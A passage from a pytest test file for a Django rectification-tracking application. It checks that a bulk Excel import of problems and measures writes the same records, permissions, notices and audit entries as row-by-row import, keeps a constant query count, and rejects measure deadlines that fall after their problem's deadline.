        kind=Measure.Kind.RECOVERY,
        owner_unit=world.resp_unit,
        start_date=world.round.feedback_date,
        due_date=datetime.date(2026, 11, 30),
    )
    return inspection_round


def _bulk_file(tmp_path, problems, measures_each, name):
    """New problems 2.1… with their measures, milestones and a new aspect, plus one new measure of 1.1."""
    owners = ["责任局", "协办镇", "无关局"]
    problem_rows = [
        problem_row(问题编号=f"2.{p}", 反馈问题=f"问题{p}", 责任领导="李其他、王牵头、李其他", 整改时限="2026-12-20")
        for p in range(1, problems + 1)
    ]
    measure_rows = [
        measure_row(
            问题编号=f"2.{p}",
            措施编号=f"2.{p}.{m}",
            整改措施=f"措施{p}.{m}",
            责任单位=owners[(p + m) % 3],
            时间节点="2026-10-01 制定方案\n2026-11-15 完成清理",
        )
        for p in range(1, problems + 1)
        for m in range(1, measures_each + 1)
    ]
    measure_rows.append(measure_row(问题编号="1.1", 措施编号="1.1.9", 整改措施="补充措施", 责任单位="协办镇"))
    return xlsx(
        tmp_path / name,
        {"问题清单": (PROBLEM_HEADERS, problem_rows), "任务清单": ([*MEASURE_HEADERS, "时间节点"], measure_rows)},
    )


def _import_one_by_one(actor, plan):
    """What ``ledger_import`` did before it wrote new rows in bulk: each through the one-row services."""
    aspects = {aspect.title: aspect for aspect in plan.inspection_round.aspects.all()}
    for offset, title in enumerate(plan.new_aspects, start=len(aspects) + 1):
        aspects[title] = services.aspect_create(
            actor=actor, inspection_round=plan.inspection_round, seq=offset, title=title
        )
    saved, touched = {}, {}
    top = plan.inspection_round.problems.aggregate(top=Max("seq"))["top"] or 0
    for seq, draft in enumerate(plan.problems, start=top + 1):
        values = {**draft.values, "aspect": aspects.get(draft.values["aspect"], draft.values["aspect"])}
        saved[draft.code] = touched[draft.code] = services.problem_create(
            actor=actor,
            inspection_round=plan.inspection_round,
            code=draft.code,
            seq=seq,
            sync_permissions=False,
            **values,
        )
    for draft in plan.measures:
        problem = saved.get(draft.problem_code) or draft.problem
        touched[problem.code] = problem
        services.measure_create(
            actor=actor,
            problem=problem,
            code=draft.code,
            seq=(problem.measures.aggregate(top=Max("seq"))["top"] or 0) + 1,
            sync_permissions=False,
            **draft.values,
        )
    for problem in touched.values():
        permissions_sync_for_problem(problem)
    counts = {key: value for key, value in plan.summary().items() if value and not key.endswith("unchanged")}
    audit_record(
        actor=actor, action="excel.import", target=plan.inspection_round, changes={"file": "", "sha256": "", **counts}
    )


def _written(inspection_round, audit_after, notices_after):
    """Everything an import wrote into a round, with database ids replaced by codes, to compare two rounds."""
    problems = {p.pk: p.code for p in Problem.objects.filter(round=inspection_round)}
    measures = {m.pk: f"{m.problem.code}/{m.code}" for m in Measure.objects.filter(problem__round=inspection_round)}
    aspects = {a.pk: a.title for a in inspection_round.aspects.all()}

    def named(text):
        # Measure ids inside links and notice keys.
        return re.sub(r"(?<=/measures/)\d+|(?<=assign:)\d+", lambda match: measures[int(match[0])], text)

    rows = {
        "problems": [
            (
                p.code,
                p.seq,
                p.aspect.title,
                p.track.kind,
                p.title,
                p.text,
                p.problem_type,
                p.deadline_category,
                p.due_date,
                p.goal,
                p.lead_official_id,
                p.lead_unit_id,
                p.campaign_id,
                p.previous_problem_id,
                p.is_secretary_led,
                p.progress_state,
                p.closeout_state,
                sorted(u.pk for u in p.responsible_leaders.all()),
                sorted(u.pk for u in p.responsible_units.all()),
                [(m.seq, m.text) for m in p.manifestations.all()],
                [(c.seq, c.text, c.measure_id) for c in p.criteria.order_by("seq")],
            )
            for p in Problem.objects.filter(round=inspection_round).order_by("seq")
        ],
        "measures": [
            (
                measures[m.pk],
                m.seq,
                m.text,
                m.kind,
                m.owner_unit_id,
                m.handler_name,
                m.handler_phone,
                m.start_date,
                m.due_date,
                m.expected_deliverable,
                m.progress_state,
                m.percent,
                m.claim_state,
                m.closeout_state,
                [(s.seq, s.title, s.due_date, s.done_on) for s in m.milestones.all()],
            )
            for m in Measure.objects.filter(problem__round=inspection_round).order_by("problem__seq", "seq")
        ],
        "grants": sorted(
            [
                (g.group_id, g.permission.codename, problems[g.content_object_id])
                for g in ProblemGroupObjectPermission.objects.filter(content_object__round=inspection_round)
            ]
            + [
                (g.user_id, g.permission.codename, problems[g.content_object_id])
                for g in ProblemUserObjectPermission.objects.filter(content_object__round=inspection_round)
            ]
            + [
                (g.group_id, g.permission.codename, measures[g.content_object_id])
                for g in MeasureGroupObjectPermission.objects.filter(content_object__problem__round=inspection_round)
            ]
            + [
                (g.user_id, g.permission.codename, measures[g.content_object_id])
                for g in MeasureUserObjectPermission.objects.filter(content_object__problem__round=inspection_round)
            ]
        ),
        "notices": sorted(
            (n.recipient_id, n.kind, n.text, named(n.link), named(n.dedup_key), n.read_at)
            for n in Notification.objects.filter(pk__gt=notices_after)
        ),
    }
    targets = {
        "rectification.problem": problems,
        "rectification.measure": measures,
        "rectification.aspect": aspects,
        "rectification.inspectionround": {inspection_round.pk: "轮次"},
    }
    rows["audit"] = [
        (
            e.actor_id,
            e.action,
            e.target_type,
            targets[e.target_type][int(e.target_id)],
            e.target_repr if e.target_type != "rectification.inspectionround" else "",
            e.changes,
            e.outcome,
            e.ip,
        )
        for e in AuditEvent.objects.filter(pk__gt=audit_after).order_by("id")
    ]
    return rows


@pytest.mark.django_db
class TestBulkApply:
    def test_it_writes_what_the_one_by_one_services_wrote(
        self, world, tmp_path, django_capture_on_commit_callbacks, settings
    ):
        settings.NOTIFY_DIGEST_HOUR = -1  # the e-mail of each routine notice by itself, not in a digest
        User.objects.filter(pk__in=[world.resp_staff.pk, world.coop_staff.pk]).update(email="unit@example.cn")
        path = _bulk_file(tmp_path, problems=3, measures_each=2, name="a.xlsx")
        results = []
        for title, apply in (
            ("逐项导入轮次", _import_one_by_one),
            ("批量导入轮次", lambda actor, plan: ledger_import(actor=actor, plan=plan)),
        ):
            inspection_round = _round_like(world, title)
            plan = plan_for(world, path, inspection_round)
            assert plan.errors == []
            audit_after = AuditEvent.objects.order_by("-id").first().pk
            notices_after = Notification.objects.order_by("-id").values_list("id", flat=True).first()
            with django_capture_on_commit_callbacks(execute=True):
                apply(world.office, plan)
            results.append(_written(inspection_round, audit_after, notices_after))
            # The e-mail copies now wait in the outbox (sent by a worker after commit).
            results[-1]["mails"] = sorted(
                (m.notification.recipient.username, m.channel, m.notification.text)
                for m in OutboxMessage.objects.filter(notification_id__gt=notices_after or 0)
            )

        one_by_one, bulk = results
        assert len(bulk["problems"]) == 4 and len(bulk["measures"]) == 8 and bulk["mails"]
        assert {action for _actor, action, *_rest in bulk["audit"]} == {
            "aspect.create",
            "problem.create",
            "measure.create",
            "excel.import",
        }
        for part in ("problems", "measures", "grants", "notices", "audit", "mails"):
            assert bulk[part] == one_by_one[part], part
        assert chain_verify()[0] is None

    def test_it_gives_new_measures_of_an_existing_problem_the_next_numbers(self, world, tmp_path):
        plan = plan_for(world, ledger_file(tmp_path, None, [measure_row(问题编号="1.1", 措施编号="1.1.3")]))
        ledger_import(actor=world.office, plan=plan)
        measure = world.problem.measures.get(code="1.1.3")
        assert measure.seq == world.problem.measures.aggregate(top=Max("seq"))["top"]
        assert measure.seq > world.coop_measure.seq
        assert measure in measures_visible_to(world.coop_staff)

    def test_its_queries_do_not_grow_with_the_file(self, world, tmp_path, django_assert_num_queries):
        for problems, measures_each in ((2, 2), (6, 3)):
            inspection_round = _round_like(world, f"导入轮次{problems}")
            plan = plan_for(
                world, _bulk_file(tmp_path, problems, measures_each, name=f"{problems}.xlsx"), inspection_round
            )
            assert plan.summary()["measures_created"] == problems * measures_each + 1
            # Aspects (read, and one created through its service), new problems with their
            # leaders, units and texts, measures with milestones, notices, the grants of every
            # problem touched, three appends to the audit chain (problems, measures, the import)
            # and the savepoints: the same 48 for 5 measures or 19.
            with django_assert_num_queries(48):
                ledger_import(actor=world.office, plan=plan)
        assert chain_verify()[0] is None

    def test_it_refuses_a_measure_due_after_its_problem_in_the_preview(self, world, tmp_path):
        plan = plan_for(
            world, ledger_file(tmp_path, [problem_row(整改时限="2026-10-15")], [measure_row(完成时限="2026-10-31")])
        )
        assert messages(plan) == [
            "工作表“任务清单”第3行G列（完成时限）：措施完成时限（2026-10-31）不能晚于问题“2.1”的整改时限（2026-10-15）。"
        ]

    def test_it_changes_an_existing_measure_under_the_rules_of_the_decomposition_page(self, world, tmp_path):
        row = measure_row(
            问题编号="1.1",
            措施编号="1.1.1",
            整改措施=world.resp_measure.text,
            措施类别="追缴资金",
            经办人="",
            完成时限="2026/12/15",
            预期成果="",
        )
        plan = plan_for(world, ledger_file(tmp_path, None, [row]))
        assert plan.errors == []
        # Between preview and confirmation the problem's deadline moves before the measure's new one.
        Problem.objects.filter(pk=world.problem.pk).update(due_date=datetime.date(2026, 12, 10))
        with pytest.raises(ValidationError) as refused:
            ledger_import(actor=world.office, plan=plan)
        assert refused.value.messages == ["措施完成时限（2026-12-15）不能晚于问题的整改时限（2026-12-10）。"]
        world.resp_measure.refresh_from_db()
        assert world.resp_measure.due_date == datetime.date(2026, 11, 30)

    def test_confirming_a_plan_made_stale_by_a_change_of_the_problem_writes_nothing(self, world, tmp_path):
        plan = plan_for(
            world, ledger_file(tmp_path, [problem_row(整改时限="2026-10-15")], [measure_row(完成时限="2026-10-15")])
        )
        assert plan.errors == []
        # Between preview and confirmation the problem's deadline moves earlier than the measure's.
        next(d for d in plan.problems if d.code == "2.1").values["due_date"] = datetime.date(2026, 10, 1)
        before, audits = counts(), AuditEvent.objects.count()
        with pytest.raises(ValidationError) as refused:
            ledger_import(actor=world.office, plan=plan)
        assert refused.value.messages == [
            "措施“2.1.1”：措施完成时限（2026-10-15）不能晚于问题的整改时限（2026-10-01）。"
        ]
        assert (counts(), AuditEvent.objects.count()) == (before, audits)
